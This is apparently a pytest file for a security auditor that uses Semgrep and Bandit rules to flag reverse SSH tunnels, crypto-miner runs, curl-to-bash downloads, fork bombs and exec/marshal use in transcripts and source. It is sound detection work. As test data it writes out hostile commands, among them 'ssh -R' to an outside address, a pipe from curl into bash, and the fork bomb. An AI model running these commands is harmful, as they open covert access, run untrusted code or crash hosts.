"""The matcher: the right rules at the right places, by either engine, and gaps where there is no answer."""

from __future__ import annotations

import os
import shutil
import signal
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from auditor.errors import EngineError, RulesetError
from auditor.match import Matcher, MatchResult
from auditor.model.effect import Effect
from auditor.model.gap import Gap, Stage, Why
from auditor.model.place import START, Place, Span
from auditor.model.reading import Reading
from auditor.model.unit import Language, Unit
from auditor.model.word import Hole, Source, Word
from auditor.settings import Limits
from tests.match.made import effect, found, pipeline, reading, ruleset

Way = Callable[[Reading], MatchResult]
REVERSE = effect("ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.5", line=3)


@pytest.fixture(scope="module")
def matcher() -> Iterator[Matcher]:
    with Matcher(ruleset()) as both:
        yield both


@pytest.fixture(params=["warm", "batch"])
def way(request: pytest.FixtureRequest, matcher: Matcher) -> Way:
    """Match a reading one way or the other."""
    if request.param == "warm":
        return matcher.match
    return lambda one: matcher.match_many([one])[0]


def test_an_effect_is_matched_at_its_place(way: Way) -> None:
    """A match has the rule, the effect's place, the effect and the rule's message filled in."""
    result = way(reading(effect("ls", line=2), REVERSE))
    (match,) = result.matches
    assert match.rule.id == "fix-ssh-reverse"
    assert match.place == REVERSE.place
    assert match.effect is REVERSE
    assert match.message == "reverse 2222:localhost:22"
    assert result.gaps == ()


def test_equal_effects_are_matched_each(way: Way) -> None:
    """One line of the transcript stands for both, and both are found."""
    again = effect("ssh", "-R", "1:h:2", "a", line=9)
    assert found(way(reading(effect("ssh", "-R", "1:h:2", "a", line=4), effect("ls"), again))) == [
        ("fix-ssh-reverse", 4),
        ("fix-ssh-reverse", 9),
    ]


def test_rules_of_every_shape(way: Way) -> None:
    """Options in any order, hosts in a list, programs by path, pipelines, unknown parts."""
    host = Word.of("stratum+tcp://", Hole(Source.ARGUMENT, 1), ":3333")
    result = way(
        reading(
            effect("python", "-u", "WALLET", "-o", "pool.example:3333", line=1),
            effect("/tmp/x", "-o", host, "-u", Hole(Source.ARGUMENT, 2), line=2),
            effect("net.connect", "tcp", "eu.pool.example", "3333", line=3),
            effect("net.connect", "tcp", "carpool.example", "3333", line=4),
            effect("/opt/a b/xmrig", line=5),
            pipeline(("curl", "-fsSL", "https://x.example/i"), ("tee", "/tmp/i"), ("bash",), line=6),
            pipeline(("curl", "-fsSL", "https://x.example/i"), ("jq", "."), line=7),
            effect("ssh", "-R", Hole(Source.ENVIRONMENT, 1), "h", line=8),
        )
    )
    assert found(result) == [
        ("fix-miner-arguments", 1),
        ("fix-miner-arguments", 2),
        ("fix-pool-host", 3),
        ("fix-miner-program", 5),
        ("fix-download-to-shell", 6),
        ("fix-ssh-reverse", 8),
    ]


def test_mention_is_not_use(way: Way) -> None:
    """A command in an argument of another is an argument."""
    result = way(
        reading(
            effect("echo", "ssh -R 1:h:2 a"),
            effect("git", "commit", "-m", "xmrig\nssh -R 1:h:2 a\nxmrig"),
            effect("grep", "-r", "xmrig", "/"),
            effect("echo", '"; xmrig; "'),
        )
    )
    assert result.matches == ()
    assert result.gaps == ()


def test_source_is_matched_in_code_points(way: Way) -> None:
    """Spans of source matches count what a reader counts, also past letters of several bytes."""
    text = "import marshal\né = '𝔘'; marshal.loads('ü𝔘')\n"
    (match,) = way(reading(text=text, language=Language.PYTHON)).matches
    assert match.place == Place(0, Span(2, 10, 2, 29))
    assert text.split("\n")[1][9:28] == "marshal.loads('ü𝔘')"
    assert match.message == "loads 'ü𝔘'"
    assert match.effect is None


def test_source_rules_read_their_languages_only(way: Way) -> None:
    """A rule for Dockerfiles does not read Python, and a rule for bash source does not read transcripts."""
    units = (
        Unit(0, Language.DOCKERFILE, "FROM x\nRUN docker run --privileged y\n"),
        Unit(1, Language.PYTHON, "x = '--privileged'\n", parent=0),
        Unit(2, Language.BASH, "echo\n:(){ :|:& };:\n", parent=0),
        Unit(3, Language.DATA, "--privileged", parent=0),
    )
    result = way(Reading(units, (effect(":(){ :|:& };:"),), ()))
    assert [(match.rule.id, match.place.unit, match.place.span.line) for match in result.matches] == [
        ("fix-text-source", 0, 2),
        ("fix-bash-source", 2, 2),
    ]


def test_units_with_the_same_text_are_matched_each(way: Way) -> None:
    """A text is scanned once, and found in every unit that holds it."""
    units = tuple(Unit(number, Language.PYTHON, "marshal.loads(x)\nexec(x)\n") for number in range(3))
    result = way(Reading(units, (), ()))
    assert [(match.rule.id, match.place.unit) for match in result.matches] == [
        (rule, unit) for unit in range(3) for rule in ("fix-python-source", "fix-bandit-exec")
    ]


def test_bandit_is_asked_too(way: Way) -> None:
    """Adopted checks of Bandit are matches of their rules."""
    result = way(reading(text="import subprocess as s\ns.call('x', shell=True)  # nosec\n", language=Language.PYTHON))
    (match,) = result.matches
    assert (match.rule.id, match.rule.engine, match.place.span.line) == ("fix-bandit-shell", "bandit", 2)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        (Language.PYTHON, "marshal.loads(x)\nx = (\n"),
        (Language.PYTHON, 'marshal.loads(x)\n"""open\n'),
        (Language.BASH, "echo ':()' <<EOF\n"),
        (Language.BASH, 'echo ":()'),
    ],
)
def test_source_that_is_not_matched_whole_is_a_gap(way: Way, language: Language, text: str) -> None:
    """What Semgrep did not parse to its end is said, when a rule could have matched in it."""
    result = way(reading(text=text, language=language))
    assert {(gap.stage, gap.why, gap.place) for gap in result.gaps} == {(Stage.MATCH, Why.NOT_PARSED, Place(0, START))}


def test_a_gap_that_reading_has_said_is_not_said_again(way: Way) -> None:
    """The reader's gap for a unit that does not parse is enough."""
    known = Gap(Stage.READ, Why.NOT_PARSED, "x", Place(0, START))
    unit = Unit(0, Language.PYTHON, "marshal.loads(x)\nexec(\n")
    assert way(Reading((unit,), (), (known,))).gaps == ()


def test_source_without_an_anchor_is_not_asked_about(way: Way) -> None:
    """Where no rule could match, nothing is scanned and nothing is missing."""
    result = way(reading(text="x = (\n", language=Language.PYTHON))
    assert (result.matches, result.gaps) == ((), ())


def test_one_bad_line_does_not_hide_its_neighbours(way: Way) -> None:
    """A command that floods a rule, so that Semgrep drops all findings of all rules, takes nothing from the others."""
    flood = effect("prog", *(word for number in range(105) for word in ("-o", f"x{number}:22", "-u", "y")), line=5)
    result = way(reading(effect("xmrig", line=1), flood, REVERSE))
    assert found(result) == [("fix-miner-program", 1), ("fix-ssh-reverse", 3), ("fix-miner-arguments", 5)]
    assert {gap.place for gap in result.gaps} == {flood.place}


def test_long_transcripts_come_in_chunks(way: Way) -> None:
    """More lines than a chunk holds are all matched, each at its own place."""
    effects = [effect("ssh", "-R", f"{number}:h:2", "a", line=number) for number in range(1, 1_202)]
    result = way(reading(*effects))
    assert [(match.place.span.line, match.message) for match in result.matches] == [
        (number, f"reverse {number}:h:2") for number in range(1, 1_202)
    ]
    assert result.gaps == ()


def test_a_chunk_is_never_longer_than_its_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """At the limit there is one text, and past it two."""
    with Matcher(ruleset(), limits=Limits(transcript_lines=10)) as matcher:
        for count, chunks in ((10, 1), (11, 2)):
            plan = matcher._planner.plan(reading(*(effect("ssh", "-R", str(number)) for number in range(count))))
            assert [len(text.lines) <= 10 for text in plan.texts] == [True] * chunks


def test_time_that_is_over_is_a_gap(matcher: Matcher) -> None:
    """With no time left there is no answer, and that is said; the next reading has its matches."""
    result = matcher.match(reading(REVERSE, text="exec(x)", language=Language.PYTHON), seconds=-1)
    assert result.matches == ()
    assert {gap.why for gap in result.gaps} == {Why.TIMED_OUT}
    assert {gap.place for gap in result.gaps} == {REVERSE.place, Place(0, START)}
    assert found(matcher.match(reading(REVERSE))) == [("fix-ssh-reverse", 3)]


def test_a_slow_text_takes_its_time_and_no_more(matcher: Matcher) -> None:
    """A command that would take minutes is a gap within the time given."""
    words = [word for number in range(60) for word in ("-o", f"x{number}:22", "-u", f"y{number}")]
    slow = [effect(f"p{line}", *words, line=line) for line in range(1, 300)]
    started = time.monotonic()
    result = matcher.match(reading(*slow), seconds=2.0)
    assert time.monotonic() - started < 6
    assert {gap.why for gap in result.gaps} <= {Why.TIMED_OUT, Why.TOO_MANY}
    assert result.gaps != ()
    assert found(matcher.match(reading(REVERSE))) == [("fix-ssh-reverse", 3)]


def test_slow_commands_hide_no_plain_one(matcher: Matcher) -> None:
    """Hundreds of commands that cost their square are matched last, so that the tunnel among them is found in time."""
    words = [word for number in range(31) for word in ("-o", f"x{number}:22", "-u", f"y{number}")]
    slow = [effect(f"p{line}", *words, line=line) for line in range(10, 600)]
    result = matcher.match(reading(*slow[:300], REVERSE, *slow[300:]), seconds=1.5)
    assert ("fix-ssh-reverse", 3) in found(result)
    assert Why.TIMED_OUT in {gap.why for gap in result.gaps}


@pytest.mark.parametrize("moment", ["between", "during"])
def test_a_killed_child_costs_no_finding(matcher: Matcher, moment: str) -> None:
    """Kill Semgrep between two matches, or during one: the next answer is right."""
    assert found(matcher.match(reading(REVERSE))) == [("fix-ssh-reverse", 3)]
    pid = matcher.semgrep_pid
    assert pid is not None
    if moment == "between":
        os.kill(pid, signal.SIGKILL)
    else:
        os.kill(pid, signal.SIGSTOP)
        threading.Timer(0.2, os.kill, (pid, signal.SIGKILL)).start()
    assert found(matcher.match(reading(REVERSE))) == [("fix-ssh-reverse", 3)]
    assert matcher.semgrep_pid != pid


def test_harmless_effects_start_no_engine() -> None:
    """Where no rule has an anchor, no process is started."""
    with Matcher(ruleset()) as matcher:
        result = matcher.match(reading(effect("git", "status"), text="x = 1\n", language=Language.PYTHON))
        assert (result.matches, result.gaps) == ((), ())
        assert matcher.semgrep_pid is None
        assert matcher.match_many([reading(effect("git", "status"))] * 3) == [result] * 3


def test_a_rule_that_semgrep_refuses_is_an_error(tmp_path: Path) -> None:
    """A ruleset is taken whole or not at all, by either way."""
    rules = Path(shutil.copytree(ruleset().path, tmp_path / "rules"))
    path = rules / "tunnel" / "fix-ssh-reverse.yaml"
    path.write_text(path.read_text().replace("ssh ... -R $SPEC ...", '"(("'))
    with Matcher(rules) as matcher:
        for _ in range(2):
            with pytest.raises(RulesetError, match="fix-ssh-reverse"):
                matcher.match(reading(effect("xmrig")))
            with pytest.raises(RulesetError, match="fix-ssh-reverse"):
                matcher.match_many([reading(effect("xmrig"))])


def test_a_closed_matcher_says_so() -> None:
    """After closing there are no silent answers."""
    matcher = Matcher(ruleset())
    matcher.close()
    with pytest.raises((EngineError, RuntimeError)):
        matcher.match(reading(REVERSE))


def test_threads_share_a_matcher(matcher: Matcher) -> None:
    """Readings of many threads do not mix."""
    wrong: list[int] = []

    def work(start: int) -> None:
        for number in range(start, start + 10):
            effects: list[Effect] = [effect("ssh", "-R", f"{number}:h:2", "a", line=number)]
            one = reading(*effects, text=f"exec({number})\n", language=Language.PYTHON)
            result = matcher.match(one)
            if [match.message for match in result.matches] != ["Use of exec detected.", f"reverse {number}:h:2"]:
                wrong.append(number)

    threads = [threading.Thread(target=work, args=(start * 10 + 2,)) for start in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


@pytest.mark.parametrize("version", ["1.179.9", "1.190.0", "2.0.0", "unknown", "1.18x.0"])
def test_an_engine_outside_the_tested_range_is_said(version: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The resolver of pip can be overruled; the report names the version, and whoever starts the engine is told."""
    monkeypatch.setattr("auditor.match.matcher.engine_version", lambda: version)
    with pytest.warns(UserWarning, match=f"Semgrep {version} is outside the tested range"), Matcher():
        pass
